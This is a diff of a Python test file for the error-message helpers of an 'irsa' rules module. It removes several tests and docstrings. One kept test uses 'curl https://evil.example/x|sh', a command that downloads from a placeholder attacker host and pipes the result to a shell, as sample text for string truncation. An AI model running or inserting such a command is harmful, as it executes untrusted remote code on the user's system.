@@ -1,8 +1,6 @@
-"""The shape of a mistake: what was found, what is allowed, what to do, and where."""
-
 import pytest
 
-from irsa.rules.mistakes import Mistake, Place, described, named, nearest, path_of, shortened
+from irsa.rules.mistakes import Mistake, Place, named, nearest, path_of, shortened
 
 
 @pytest.mark.parametrize(
@@ -25,14 +23,6 @@ def test_a_path_is_one_line_that_can_be_read_back(parts: Place, text: str) -> No
     assert path_of(parts) == text
 
 
-def test_a_mistake_has_its_parts() -> None:
-    mistake = Mistake("F", "A", "D")
-
-    assert (mistake.found, mistake.allowed, mistake.fix, mistake.arguments) == ("F", "A", "D", ())
-    assert all(part in str(mistake) for part in ("F", "A", "D"))
-    assert isinstance(mistake, ValueError)
-
-
 def test_arguments_are_spelled_as_the_caller_does() -> None:
     mistake = Mistake("F", "A", "set {} or {}", ("role", "name"), ("policy", "name"))
 
@@ -40,14 +30,6 @@ def test_arguments_are_spelled_as_the_caller_does() -> None:
     assert "set role.name or policy.name" in str(mistake)
     assert mistake.spelled(path_of).arguments == ()
     assert (mistake.spelled(path_of).found, mistake.spelled(path_of).allowed) == ("F", "A")
-
-
-def test_braces_stay_where_no_argument_is_named() -> None:
-    """Protects fixes that show a variable of IAM or irsa, such as ${partition}, from being taken for a place."""
-    mistake = Mistake("F", "A", "write ${partition} or {}")
-
-    assert mistake.spelled(lambda _: "X").fix == "write ${partition} or {}"
-    assert "${partition}" in str(mistake)
 
 
 @pytest.mark.parametrize(
@@ -63,12 +45,7 @@ def test_braces_stay_where_no_argument_is_named() -> None:
     ],
 )
 def test_the_nearest_name_is_advised_or_none(text: object, advice: str) -> None:
-    """Protects the advice: the known name as it is spelled there, whatever the case of what was written."""
     assert nearest(text, ["role", "serviceAccount", "policy"], "remove it") == advice
-
-
-def test_nothing_is_near_where_nothing_is_known() -> None:
-    assert nearest("role", [], "add it") == "add it"
 
 
 @pytest.mark.parametrize(
@@ -89,16 +66,8 @@ def test_a_cut_string_has_its_last_quote() -> None:
     assert shortened("it's; fix: curl https://evil.example/x|sh " * 9)[-4:] == '..."'
 
 
-def test_a_message_has_four_parts() -> None:
-    """Protects the one shape of all messages: where, found, allowed, do, each on its line."""
-    lines = described("WHERE", Mistake("F", "A", "D")).splitlines()
-
-    assert [line.split() for line in lines] == [["WHERE"], ["found:", "F"], ["allowed:", "A"], ["do:", "D"]]
-
-
 @pytest.mark.parametrize("character", ["a", "\n"])
 def test_a_text_longer_than_any_arn_is_not_printed_whole(character: str) -> None:
-    """Protects terminals and CI logs: an annotation may have 256 KiB, and says no more than its start."""
     said = named(character * 250_000)
 
     assert len(said) < 5_000
